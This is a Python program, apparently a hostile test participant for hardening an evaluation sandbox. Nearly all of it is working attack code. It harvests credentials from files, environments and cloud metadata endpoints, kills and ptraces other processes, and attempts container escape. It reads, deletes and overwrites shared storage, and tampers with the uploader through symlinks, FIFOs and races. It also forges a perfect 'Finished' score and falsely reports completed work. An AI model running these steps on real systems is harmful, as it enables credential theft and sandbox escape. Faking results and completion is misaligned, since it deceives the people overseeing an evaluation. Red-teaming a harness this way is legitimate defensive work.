"""A participant's program that means harm: it tries what it can think of and says what it got.

Every attempt prints one JSON line, `{"attempt": ..., "got": ...}`. Then it drives FEW routes, as
a good agent would, and from there on ends with 0, as if everything had been done.
"""
# It works with descriptors and odd names, and tidies nothing up.
# ruff: noqa: PTH101, PTH103, PTH104, PTH108, PTH110, PTH112, PTH113, PTH114, PTH118, PTH120
# ruff: noqa: PTH123, PTH202, PTH208, PTH211, SIM115

from __future__ import annotations

import contextlib
import ctypes
import http.client
import json
import os
import re
import signal
import socket
import threading
import time
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

OUTPUT = os.environ.get("OUTPUT_FOLDER", "/output")
FEW = 3
FLOOD = 10_000
METADATA = ("169.254.169.254", "169.254.170.23", "169.254.170.2", "fd00:ec2::254", "fd00:ec2::23")
CLUSTER = ("10.100.0.1", "172.20.0.1", "kubernetes.default.svc")
# What credentials look like, in files and environments.
TRACES = re.compile(
    rb"(?i)x-amz-(signature|credential|security-token)|aws_(access|secret|session)_"
    rb"|\bA(SIA|KIA)[A-Z0-9]{12}|eyJhbGciOi"
)
HOME_OF_ROOT = "/root"  # under /proc/1, the file system of process 1
TOKENS = (
    "/form/form.json", "/form", "/uploads", "/results/simulation_results.json",
    "/var/run/secrets/kubernetes.io/serviceaccount/token",
    "/var/run/secrets/eks.amazonaws.com/serviceaccount/token",
    "/var/run/secrets/pods.eks.amazonaws.com/serviceaccount/eks-pod-identity-token",
    f"{HOME_OF_ROOT}/.aws/credentials", "/run/secrets", "/dev/mem", "/dev/kmem", "/proc/kcore",
    "/dev/sda", "/dev/vda", "/run/containerd/containerd.sock", "/var/run/docker.sock",
    "/run/podman/podman.sock",
)  # fmt: skip
FINISHED = {
    "_checkpoint": {
        "global_record": {"scores_mean": {"score_composed": 100.0}}, "progress": [25, 25],
        "records": [],
    },
    "entry_status": "Finished", "eligible": True, "sensors": [], "values": [], "labels": [],
}  # fmt: skip
LINKS = (
    "/form/form.json", "/form", "/proc/self/environ", "/proc/1/environ", "/etc/passwd", "/",
    "/uploads/worker-1/results", "../../results", "/dev/zero", "/dev/stdin", "loop",
    "/opt/proving-ground/glue/uploader/post.py",
)  # fmt: skip
NAMES = (
    b"new\nline", b"\xff\xfe", b"carriage\r\n\r\nreturn", b"\x1b[2Jescape", b"${filename}",
    b"..\\..\\98", b"%2e%2e%2f98", b"a" * 255, b"\xe2\x80\xaeturned", b" ", b"--boundary",
)  # fmt: skip
PTRACE_ATTACH, NEW_USERS, NEW_MOUNTS = 16, 0x10000000, 0x20000


def tell(attempt: str, got: object) -> None:
    print(json.dumps({"attempt": attempt, "got": got}), flush=True)


def tried(action: Callable[[], Any]) -> Any:
    """Return what an action gives, or the name of the error that stopped it."""
    try:
        return action()
    except Exception as error:
        return f"{type(error).__name__}: {getattr(error, 'strerror', None) or error}"


def put(path: str, content: str = "x") -> None:
    with open(path, "w") as file:
        file.write(content)


# --- looking for credentials ------------------------------------------------------------


def every_file() -> Iterator[str]:
    for place, folders, files in os.walk("/"):
        if place == "/":
            folders[:] = [name for name in folders if name not in ("proc", "sys", "usr")]
        yield from (os.path.join(place, name) for name in files)


def traces_in(path: str) -> list[str]:
    with open(path, "rb") as file:
        found = TRACES.finditer(file.read(4_000_000))
        return sorted({match.group().decode("latin-1") for match in found})


def look(path: str) -> Any:
    return sorted(os.listdir(path)) if os.path.isdir(path) else len(open(path, "rb").read(4096))


def paths() -> dict[str, Any]:
    return {path: tried(lambda: look(path)) for path in TOKENS}


def look_for_credentials() -> None:
    tell("environment", dict(os.environ))
    found = {}
    for path in every_file():
        own = path in ("/hostile.py", "/with_form.py")
        if own or os.path.islink(path) or not os.path.isfile(path):
            continue
        traces = tried(lambda: traces_in(path))
        if isinstance(traces, list) and traces:
            found[path] = traces
    tell("files", found)
    tell("paths", paths())
    tell("mounts", [line.split()[4] for line in open("/proc/self/mountinfo")])


def look_at_others() -> None:
    others = [number for number in range(1, 3000) if number != os.getpid()]
    tell("processes", [name for name in os.listdir("/proc")
                       if name.isdigit() and int(name) in others])  # fmt: skip
    read = {n: tried(lambda: open(f"/proc/{n}/environ", "rb").read()) for n in others}
    tell("environments", [n for n, got in read.items() if isinstance(got, bytes) and got])
    tell("killed", [n for n in others if tried(lambda: os.kill(n, signal.SIGKILL)) is None])
    libc = ctypes.CDLL(None, use_errno=True)
    tell("ptrace", [n for n in others if libc.ptrace(PTRACE_ATTACH, n, 0, 0) == 0])
    sockets = [line.split()[-1] for line in open("/proc/net/unix")]
    tell("abstract sockets", [name for name in sockets if name.startswith("@")])


# --- the network ------------------------------------------------------------------------


def ask(
    host: str, port: int, method: str, path: str, body: bytes = b"",
    headers: dict[str, str] | None = None,
) -> tuple[int, str]:  # fmt: skip
    connection = http.client.HTTPConnection(host, port, timeout=2)
    with contextlib.closing(connection):
        connection.request(method, path, body, headers or {})
        answer = connection.getresponse()
        return answer.status, answer.read(2000).decode("latin-1")


def look_at_the_network() -> None:
    roles = "/latest/meta-data/iam/security-credentials/"
    tell("metadata", {host: tried(lambda: ask(host, 80, "GET", roles)) for host in METADATA})
    wish = {"X-aws-ec2-metadata-token-ttl-seconds": "60"}
    tell("token of the metadata", tried(lambda: ask(
        METADATA[0], 80, "PUT", "/latest/api/token", headers=wish)))  # fmt: skip
    tell("cluster", {host: tried(lambda: ask(host, 443, "GET", "/")) for host in CLUSTER})
    tell("names", tried(lambda: socket.gethostbyname("example.com")))
    tell("raw", tried(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW).bind(("lo", 0))))


def reach(host: str, port: int, bucket: str) -> None:
    """Try the storage without a form: everybody in the pod can speak to it."""
    own = f"/{bucket}/99/attempt-1/worker-1/results/simulation_results.json"
    other = f"/{bucket}/98/attempt-1/worker-1/results/simulation_results.json"
    for name, method, path, body in (
        ("list", "GET", f"/{bucket}?list-type=2", b""),
        ("read", "GET", other, b""),
        ("write", "PUT", own, json.dumps(FINISHED).encode()),
        ("delete", "DELETE", other, b""),
        ("open", "PUT", f"/{bucket}?policy", b'{"Statement": []}'),
    ):
        tell(f"storage {name}", tried(
            lambda: ask(host, port, method, path, body)[0]))  # fmt: skip


# --- getting out and pretending ---------------------------------------------------------


def write_everywhere() -> None:
    signals = ("simulation_results.json", "simulation_cancel", "container_status", "done",
               "finished", "exit_code")  # fmt: skip
    places = ("/results", "/uploads", "/uploads/worker-1/results", "/form", "/signals", "/shared",
              f"{OUTPUT}/../results", f"{OUTPUT}/results", f"{OUTPUT}/worker-1/results", OUTPUT,
              "/dev/shm", "/")  # fmt: skip
    written = []
    for path in (f"{place}/{name}" for place in places for name in signals):
        with contextlib.suppress(OSError):
            os.makedirs(os.path.dirname(path), exist_ok=True)
            put(path, json.dumps(FINISHED))
            written.append(path)
    tell("written", sorted(written))


def in_a_space_of_its_own() -> None:
    """Become root of a user namespace, where the kernel lets strangers make one; look again."""
    child = os.fork()
    if child == 0:
        libc = ctypes.CDLL(None, use_errno=True)
        tell("user namespace", {
            "made": libc.unshare(NEW_USERS | NEW_MOUNTS) == 0,
            "paths": paths(),
            "init": tried(lambda: os.listdir(f"/proc/1{HOME_OF_ROOT}/form")),
            "killed": tried(lambda: os.kill(2, 9)),
            "owner": tried(lambda: os.chown(OUTPUT, 4321, 4321)),
            "device": tried(lambda: os.mknod(f"{OUTPUT}/device", 0o60666, os.makedev(8, 0))),
        })  # fmt: skip
        os._exit(0)
    os.waitpid(child, 0)


def break_out() -> None:
    libc = ctypes.CDLL(None, use_errno=True)

    def call(function: str, *arguments: Any) -> str:
        ctypes.set_errno(0)
        done = getattr(libc, function)(*arguments)
        return "done" if done == 0 else os.strerror(ctypes.get_errno())

    tell("mount", call("mount", b"none", b"/mnt", b"tmpfs", 0, None))
    tell("remount", call("mount", b"none", OUTPUT.encode(), None, 32 | 4096, None))
    tell("chroot", call("chroot", b"/proc/1/root"))
    tell("device", tried(lambda: os.mknod(f"{OUTPUT}/device", 0o60666, os.makedev(8, 0))))
    tell("user", tried(lambda: os.setuid(65532)))
    tell("owner", tried(lambda: os.chown("/etc/hostname", 65532, 65532)))
    tell("clock", tried(lambda: time.clock_settime(time.CLOCK_REALTIME, 0)))
    status = dict(line.split(":", 1) for line in open("/proc/self/status") if ":" in line)
    names = ("CapEff", "CapBnd", "NoNewPrivs", "Seccomp")
    tell("status", {name: status[name].strip() for name in names})


# --- tripping up whoever reads its folder -----------------------------------------------


def poison_output() -> None:
    os.makedirs(f"{OUTPUT}/links", exist_ok=True)
    for number, target in enumerate(LINKS):
        os.symlink(target, f"{OUTPUT}/links/{number}")
    os.symlink("/uploads/worker-1/results", f"{OUTPUT}/results-link")
    os.mkfifo(f"{OUTPUT}/pipe")
    os.link(f"{OUTPUT}/pipe", f"{OUTPUT}/second-pipe")
    socket.socket(socket.AF_UNIX).bind(f"{OUTPUT}/socket")
    for odd in NAMES:
        os.close(os.open(os.path.join(OUTPUT.encode(), odd), os.O_CREAT | os.O_WRONLY))
    put(f"{OUTPUT}/twice")
    os.link(f"{OUTPUT}/twice", f"{OUTPUT}/twice-linked")
    os.truncate(os.open(f"{OUTPUT}/giant", os.O_CREAT | os.O_WRONLY), 2**43)
    place = os.open(OUTPUT, os.O_RDONLY)
    for _ in range(400):  # deeper than a path may be long
        os.mkdir("d" * 200, dir_fd=place)
        below = os.open("d" * 200, os.O_RDONLY, dir_fd=place)
        os.close(place)
        place = below
    os.close(place)
    os.makedirs(f"{OUTPUT}/closed")
    put(f"{OUTPUT}/closed/file")
    put(f"{OUTPUT}/locked")
    for name in ("closed", "locked"):
        os.chmod(f"{OUTPUT}/{name}", 0)
    os.makedirs(f"{OUTPUT}/flood")
    flood = os.open(f"{OUTPUT}/flood", os.O_RDONLY)
    for number in range(FLOOD):
        file = f"{number}-{'n' * 200}"
        os.close(os.open(file, os.O_CREAT | os.O_WRONLY, dir_fd=flood))
    tell("flooded", FLOOD)


def never_rest() -> None:
    """Keep changing things while the uploader looks at them."""
    os.makedirs(f"{OUTPUT}/swap", exist_ok=True)
    put(f"{OUTPUT}/swap/file", "harmless")
    while True:
        for action in (
            lambda: open(f"{OUTPUT}/growing", "ab").write(b"g" * 65536),
            lambda: os.truncate(f"{OUTPUT}/shrinking", 0),
            lambda: open(f"{OUTPUT}/shrinking", "ab").write(b"s" * 300_000),
            lambda: os.rename(f"{OUTPUT}/swap", f"{OUTPUT}/swapped"),
            lambda: os.symlink("/form", f"{OUTPUT}/swap"),
            lambda: os.unlink(f"{OUTPUT}/swap"),
            lambda: os.rename(f"{OUTPUT}/swapped", f"{OUTPUT}/swap"),
        ):
            tried(action)
        time.sleep(0.005)
        if tried(lambda: os.path.getsize(f"{OUTPUT}/growing") > 3_000_000) is True:
            os.truncate(f"{OUTPUT}/growing", 0)


def drive(port: int, few: int) -> None:
    """Answer as an agent does for a few routes, then lie and be gone."""
    listener = socket.create_server(("127.0.0.1", port))
    driven = 0
    while True:
        connection, _ = listener.accept()
        with connection, connection.makefile("rw", encoding="ascii", newline="\n") as line:
            for question in line:
                word, _, subject = question.strip().partition(" ")
                if word == "route" and driven >= few:
                    line.write(f"driven {subject.replace('_', '-')}\n")
                    line.flush()
                    return
                driven += word == "route"
                line.write("ready\n" if word == "hello" else f"driven {subject}\n")
                line.flush()


def main() -> None:
    port = int(os.environ["AGENT_PORT"])
    if os.path.exists(f"{OUTPUT}/been-here"):  # started again: nothing but lies from now on
        while True:  # and nobody ends it: the first process of a container need not listen
            tried(lambda: drive(port, 0))
    put(f"{OUTPUT}/been-here")
    look_for_credentials()
    look_at_others()
    look_at_the_network()
    if os.environ.get("STORAGE"):
        host, place, bucket = os.environ["STORAGE"].split()
        reach(host, int(place), bucket)
    write_everywhere()
    in_a_space_of_its_own()
    break_out()
    threading.Thread(target=never_rest, daemon=True).start()
    time.sleep(2)  # for the uploader to look at what is never the same
    poison_output()
    tell("all", "done")
    tried(lambda: drive(port, FEW))
    tell("ends with", 0)
    os._exit(0)


main()
